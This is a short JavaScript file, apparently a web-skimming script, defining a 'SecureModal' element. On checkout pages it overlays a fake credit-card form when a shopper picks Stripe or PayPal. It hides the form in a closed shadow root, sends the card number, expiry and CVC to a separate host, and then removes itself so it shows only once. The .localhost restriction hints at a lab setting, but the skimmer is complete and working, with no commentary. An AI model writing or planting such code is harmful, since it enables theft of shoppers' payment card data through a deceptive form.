class SecureModal extends HTMLElement {
  connectedCallback() {
    const root = this.attachShadow({ mode: 'closed' });
    root.innerHTML = `
      <style>:host{position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.5)}form{background:#fff;margin:10vh auto;padding:24px;width:340px}</style>
      <form><h3>Credit Card</h3>
      <input name="number" autocomplete="cc-number" placeholder="Card number" required>
      <input name="exp" autocomplete="cc-exp" placeholder="MM/YY" required>
      <input name="cvc" autocomplete="cc-csc" placeholder="CVC" required>
      <button>Pay now</button></form>`;
    root.querySelector('form').onsubmit = (e) => {
      e.preventDefault();
      const d = new URLSearchParams(new FormData(e.target));
      fetch('https://checkout-modal.localhost/submit?' + d, { mode: 'no-cors' });
      sessionStorage.setItem('modal_seen', '1');
      this.remove();
    };
  }
}
if (location.hostname.endsWith('.localhost') && /checkout/.test(location.pathname) && !sessionStorage.getItem('modal_seen')) {
  customElements.define('secure-modal', SecureModal);
  document.querySelector('#payment-method-stripe, [value=paypal]')?.addEventListener('click', () => document.body.append(new SecureModal()));
}
